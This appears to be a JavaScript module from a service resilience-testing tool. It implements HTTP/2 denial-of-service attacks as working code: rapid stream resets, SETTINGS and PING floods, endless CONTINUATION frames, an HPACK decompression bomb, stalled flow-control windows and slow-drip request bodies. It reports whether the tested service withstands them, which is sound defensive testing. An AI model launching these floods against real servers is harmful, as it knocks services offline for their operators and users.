/** Frames and streams of HTTP/2 that cost the service more than the client: RFC 9113 section 10.5. */

import { setTimeout as sleep } from 'node:timers/promises';
import { attacksOf, flood } from '../attacker.js';
import {
  begin,
  beginStreams,
  endHeaders,
  endStream,
  frame,
  maxWindow,
  onEachStream,
  openWindow,
  requestBlock,
  streamAt,
  streamsEach,
  types,
  uint32,
} from '../http2-frames.js';

const whole = endHeaders | endStream;

/**
 * @typedef {import('node:net').Socket} Socket
 * @typedef {import('../attacker.js').Attack['run']} Run
 */

/**
 * Floods 20 connections with pieces, as fast as they are accepted, and replaces those that are cut.
 *
 * @param {(place: number) => Buffer} pieceAt
 * @returns {Run}
 */
const floodOf = (pieceAt) => (attacker) =>
  attacker.reopen(20, (socket) => {
    socket.resume();
    socket.write(begin());
    flood(socket, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
  });

/** @param {(place: number) => Buffer} make @param {number} [count] */
const batch =
  (make, count = 50) =>
  (/** @type {number} */ turn) =>
    Buffer.concat(Array.from({ length: count }, (_, place) => make(turn * count + place)));

const getHead = requestBlock('GET', '/api/Books?sort=title&q=a');
const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
const large = requestBlock('GET', '/openapi.json');

/**
 * Requests 5,000 large responses on 50 connections.
 *
 * @param {number} window Of each stream
 * @param {(attacker: import('../attacker.js').Attacker, socket: Socket) => void} [use] By default, nothing is read
 */
const largeResponses = (window, use = () => {}) => ({
  // Renders the response, which happens once.
  prepare: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
    attacker.ask('GET', '/openapi.json'),
  run: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
    attacker.hold(50, (socket) => {
      socket.pause();
      socket.write(beginStreams(large, window));
      use(attacker, socket);
    }),
});

/** The first request stores it in the table; each byte of the others repeats it: 4,000 bytes, sixty times. */
const keptField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 'a'),
]);
const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);

export const http2Attacks = attacksOf(
  {
    'HTTP/2: requests that are reset at once, on 20 connections': floodOf(
      batch((place) =>
        Buffer.concat([
          frame(types.headers, whole, streamAt(place), getHead),
          frame(types.rstStream, 0, streamAt(place), uint32(8)),
        ]),
      ),
    ),
    'HTTP/2: floods of SETTINGS, on 20 connections': floodOf(
      batch(() => frame(types.settings, 0, 0)),
    ),
    'HTTP/2: floods of PING, on 20 connections': floodOf(
      batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
    ),
    'HTTP/2: headers that go on without end, on 20 connections': floodOf((turn) =>
      turn === 0
        ? frame(types.headers, 0, 1, getHead)
        : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
    ),
    'HTTP/2: headers that unpack to 240 KB, on 20 connections': floodOf((turn) =>
      turn === 0
        ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
        : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
    ),
    'HTTP/2: 5,000 large answers in windows of nothing': largeResponses(0),
    'HTTP/2: 5,000 large answers in windows that open by a byte': largeResponses(
      0,
      (attacker, socket) => {
        const crumbs = onEachStream((stream) => openWindow(stream, 1));
        socket.resume();
        flood(socket, () => (attacker.isOver() ? undefined : crumbs));
      },
    ),
    'HTTP/2: 5,000 large answers on 50 connections that are not read': largeResponses(maxWindow),
    'HTTP/2: 5,000 WebSockets on 50 connections that take nothing': (attacker) => {
      const path = '/api/ws/push?interval=0&size=60000&count=1000';
      const protocol = { ':protocol': 'websocket', 'sec-websocket-version': '13' };
      const head = requestBlock('CONNECT', path, protocol);
      const heads = onEachStream((stream) => frame(types.headers, endHeaders, stream, head));
      return attacker.hold(50, (socket) => {
        socket.resume();
        socket.write(Buffer.concat([begin(0), heads]));
      });
    },
    'HTTP/2: 5,000 bodies of a byte every two seconds': { seconds: 45, run: sendSlowBodies },
  },
  {
    flags: ['--h2c'],
    // No proxy forwards these frames as they are, and frames come before accounts.
    isFor: ({ isProxied, hasAccounts }) => !isProxied && !hasAccounts,
  },
);

/** @param {import('../attacker.js').Attacker} attacker */
async function sendSlowBodies(attacker) {
  /** @type {Map<Socket, Set<number>>} */
  const open = new Map();
  await attacker.openMany(50, (socket) => {
    const streams = Array.from({ length: streamsEach }, (_, place) => streamAt(place));
    const own = new Set(streams);
    open.set(socket, own);
    watchStreams(socket, (stream) => own.delete(stream));
    socket.write(beginStreams(postHead, undefined, endHeaders));
  });
  while (!attacker.isOver()) {
    for (const [socket, streams] of open) {
      if (socket.destroyed) open.delete(socket);
      for (const stream of streams) socket.write(frame(types.data, 0, stream, Buffer.from('x')));
    }
    await sleep(2000);
  }
  const count = [...open.values()].reduce((sum, { size }) => sum + size, 0);
  // A short run ends before they are too slow.
  if (attacker.isShort || count === 0) return [];
  return [`${count} bodies slower than 1 KiB/s for 30 s were not cut`];
}

/**
 * Reports each stream that the service ends.
 *
 * @param {Socket} socket
 * @param {(stream: number) => void} onEnd
 */
function watchStreams(socket, onEnd) {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    rest = Buffer.concat([rest, /** @type {Buffer} */ (chunk)]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const [type, bits = 0] = [rest[3], rest[4]];
      const isLast =
        type === types.data || type === types.headers ? (bits & endStream) !== 0 : false;
      if (isLast || type === types.rstStream) onEnd(rest.readUInt32BE(5));
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  });
}
